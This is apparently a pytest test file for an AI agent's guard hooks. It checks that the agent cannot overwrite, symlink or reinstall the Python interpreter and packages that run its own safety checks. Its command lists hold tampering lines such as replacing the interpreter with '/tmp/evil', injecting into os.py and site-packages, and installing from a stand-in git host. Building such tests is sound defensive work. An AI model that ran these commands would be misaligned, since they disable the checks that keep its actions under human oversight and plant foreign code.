"""The Python that judges calls: the agent changes neither it nor the packages that it needs."""

from __future__ import annotations

import sys
import sysconfig
from pathlib import Path

import pytest

from agent_hooks.cli import protection
from agent_hooks.cli.protection import agent_guards
from agent_hooks.guards.base import Finding, GuardedCall, GuardOptions, OwnPython
from agent_hooks.guards.config import GuardSettings
from agent_hooks.guards.paths import SecurityAudit
from agent_hooks.guards.shell import CommandSafetyGuard
from agent_hooks.pipeline.guarding import ask_guards, guarded_call
from agent_hooks.trust.place import find_place
from agent_hooks.values.answers import Block

PROJECT, HOME, APART, LIBRARY = "/home/dev/app", "/home/dev", "/home/dev/tools/judge", "/home/dev/py/lib/python3.11"
NEEDED = frozenset(("click", "anyio", "pyyaml", "yaml", "prompt-toolkit", "prompt_toolkit", "agent-hooks-runtime"))


def options(prefix: str, *, usual: bool) -> GuardOptions:
    return GuardOptions(
        python=OwnPython(
            prefix=prefix,
            programs=(f"{prefix}/bin", "/home/dev/py/bin"),
            packages=(f"{prefix}/lib/python3.11/site-packages",),
            standard=(LIBRARY,),
            usual=usual,
            required=lambda: NEEDED,
        )
    )


OPTIONS = {APART: options(APART, usual=False), f"{PROJECT}/.venv": options(f"{PROJECT}/.venv", usual=True)}


def call(tool: str, **more: object) -> GuardedCall:
    return GuardedCall(tool_name=tool, input=more, cwd=PROJECT, home=HOME)


def findings(prefix: str, command: str) -> list[Finding]:
    return CommandSafetyGuard(OPTIONS[prefix]).find(call("bash", command=command.replace("JUDGE", prefix)))


def answer(prefix: str, command: str) -> str:
    found = [each for each in findings(prefix, command) if each.rule == "write-guard-settings"]
    return "pass" if not found else "ask" if found[0].undecidable else "block"


WRITES = [
    "pip install --target JUDGE/lib/python3.11/site-packages click",
    "echo 'import os' >> JUDGE/lib/python3.11/site-packages/click/__init__.py",
    "echo 'home = /tmp/x' > JUDGE/pyvenv.cfg",
    "ln -sf /tmp/evil JUDGE/bin/python",
    "cp evil JUDGE/bin/python3",
    "echo > JUDGE/bin/pybuilddir.txt",
    "sed -i s/a/b/ JUDGE/lib/python3.11/site-packages/anyio/_core/_tasks.py",
    "cp -r evil/. JUDGE/lib/python3.11/site-packages/yaml",
    "rm JUDGE/lib/python3.11/site-packages/cli*/core.py",
    "rm -rf JUDGE/lib",
    "mv JUDGE/lib/python3.11/site-packages /tmp/old",
    "tee ~/py/lib/python3.11/os.py < evil.py",
    "cp evil.py ~/py/lib/python3.11/encodings/__init__.py",
    "cp evil ~/py/bin/python3.11",
    "echo x > ~/py/lib/libpython3.11.so.1.0",
    "cp evil.zip ~/py/lib/python311.zip",
    "python3 -c \"open('JUDGE/lib/python3.11/site-packages/click/core.py', 'w').write('x')\"",
    "dd if=evil of=JUDGE/lib/python3.11/site-packages/prompt_toolkit/__init__.py",
    "tar -xf x.tar -C JUDGE/lib/python3.11/site-packages",
]
INSTALLS = [
    "JUDGE/bin/pip uninstall -y click",
    "JUDGE/bin/python -m pip install -U anyio",
    "JUDGE/bin/python3 -m pip install --force-reinstall PyYAML",
    "JUDGE/bin/pip install click==8.1.0",
    "JUDGE/bin/python -m pip install ./click-evil",
    "JUDGE/bin/pip install click-9.9-py3-none-any.whl",
    "JUDGE/bin/pip install agent-hooks",
    "uv pip install -p JUDGE/bin/python -U prompt_toolkit",
    "uv pip uninstall --python JUDGE/bin/python click",
    "VIRTUAL_ENV=JUDGE uv pip uninstall click",
    "source JUDGE/bin/activate && pip uninstall -y click",
    "python3 -m venv --clear JUDGE",
    "virtualenv --clear JUDGE",
    "uv venv --clear JUDGE",
    "sudo JUDGE/bin/pip uninstall -y anyio",
]
APART_ONLY = ["JUDGE/bin/pip install ./evil", "JUDGE/bin/python -m pip install git+https://x.example/e.git"]
EMBEDDED_ONLY = [
    *("pip uninstall -y click", "pip install agent-hooks", "uv remove pyyaml", "python -m pip install -U click"),
    "uv venv --clear",
]
HARMLESS = [
    *("pip install requests", "pip install -e .", "pip install -e '.[dev]'", "pip install -r requirements.txt"),
    *("pip install .", "python -m pip install -U pip setuptools wheel", "uv pip install -e . ruff", "uv add httpx"),
    *("pip install click", "pip install pyyaml rich requests", "pip uninstall -y requests", "uv sync --all-extras"),
    *("uv run pytest -q", "JUDGE/bin/python -m pytest tests", "JUDGE/bin/pip install requests"),
    *("JUDGE/bin/pip list --outdated", "JUDGE/bin/python -V", "ls -l JUDGE/bin/python", "cat JUDGE/pyvenv.cfg"),
    "grep -rn 'def echo' JUDGE/lib/python3.11/site-packages/click",
    "python3 -m venv /tmp/fresh && /tmp/fresh/bin/pip install -U click anyio",
    *("/tmp/fresh/bin/pip uninstall -y click", "python3 -m venv --clear /tmp/fresh", "uv venv --clear /tmp/fresh"),
    *("uv pip install -p JUDGE/bin/python requests", "uv pip install -p /tmp/fresh/bin/python -U click"),
    "mypy --python-executable JUDGE/bin/python src",
    "ln -sf JUDGE/bin/python /tmp/py",
    "cp JUDGE/lib/python3.11/site-packages/click/core.py /tmp/core.py",
    "echo x > JUDGE/lib/python3.11/site-packages/requests/api.py",
    "echo x > src/click/__init__.py",
    "cp a.py lib/python3.11/os.py",
    "rm -rf JUDGE/lib/python3.11/site-packages/requests",
    "diff -r ~/py/lib/python3.11/json src/json",
    "touch JUDGE/bin/mytool",
    "pip download click -d wheels",
    "source /tmp/fresh/bin/activate && pip install -U click",
    "find JUDGE/lib -name '*.so' | head",
]
APART_HARMLESS = [
    *(
        "pip install -U click",
        "pip uninstall -y pyyaml && pip install pyyaml",
        "uv remove click",
        "pip install agent-hooks",
    ),
    *("python3 -m venv --clear .venv", "uv venv --clear", "python -m pip install -U -e ./click"),
    *("rm .venv/lib/python3.11/site-packages/click/x.py", "ln -sf python3.12 .venv/bin/python"),
]


@pytest.mark.parametrize("prefix", OPTIONS)
def test_the_agent_writes_no_file_of_the_python_that_judges(prefix: str) -> None:
    """Its next process would run such a file before any guard."""
    assert {command: answer(prefix, command) for command in WRITES} == dict.fromkeys(WRITES, "block")


@pytest.mark.parametrize(
    ("prefix", "commands"), [*zip(OPTIONS, ([*INSTALLS, *APART_ONLY], [*INSTALLS, *EMBEDDED_ONLY]), strict=True)]
)
def test_a_package_that_the_guards_need_is_replaced_after_a_question_only(prefix: str, commands: list[str]) -> None:
    """This is asked where a program that installs packages works in the environment of that Python."""
    assert {command: answer(prefix, command) for command in commands} == dict.fromkeys(commands, "ask")


@pytest.mark.parametrize(("prefix", "more"), [*zip(OPTIONS, (APART_HARMLESS, []), strict=True)])
def test_other_packages_and_other_environments_are_the_agents_own_work(prefix: str, more: list[str]) -> None:
    """An everyday installation is not stopped, also where the guards are in the environment of the project."""
    commands = [*HARMLESS, *more]
    assert {command: answer(prefix, command) for command in commands} == dict.fromkeys(commands, "pass")


@pytest.mark.parametrize("tool", ["write", "edit", "mcp__fs__write_file"])
def test_no_tool_writes_such_a_file(tool: str) -> None:
    """A tool that does not write may name it."""
    audit = SecurityAudit(OPTIONS[APART])
    for path in ("bin/python3", "pyvenv.cfg", "lib/python3.11/site-packages/click/core.py"):
        assert [each.rule for each in audit.find(call(tool, path=f"{APART}/{path}"))] == ["guard-settings"]
    assert audit.find(call(tool, path=f"{APART}/lib/python3.11/site-packages/requests/api.py")) == []
    assert audit.find(call("mcp__py__configure", path=f"{APART}/bin/python3")) == []


def test_an_agent_finds_its_own_python(tmp_path: Path) -> None:
    """The metadata names the packages, and the packages that they need in turn."""
    guards, cwd = agent_guards(GuardSettings(), find_place(str(tmp_path))), str(tmp_path)
    site = sysconfig.get_path("purelib")
    for file in (
        f"{site}/click/core.py",
        f"{site}/idna/core.py",
        f"{sys.prefix}/pyvenv.cfg",
        f"{sys.prefix}/bin/python",
    ):
        for tool, more in (("bash", {"command": f"echo x >> {file}"}), ("write", {"path": file, "content": ""})):
            assert isinstance(ask_guards(guards, guarded_call(tool, more, cwd), lambda error: None), Block), file
    harmless = guarded_call("bash", {"command": f"grep -n def {site}/click/core.py; echo x > {site}/hatch.py"}, cwd)
    assert not ask_guards(guards, harmless, lambda error: None)


def test_the_names_of_packages_are_read_once(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A call that touches no packages reads no metadata."""
    protection._required.cache_clear()
    guards = agent_guards(GuardSettings(), find_place(str(tmp_path)))
    call = guarded_call("bash", {"command": "echo x > a.py && make test && pip install requests"}, str(tmp_path))
    assert not ask_guards(guards, call, lambda error: None)
    assert protection._required.cache_info().misses == 0
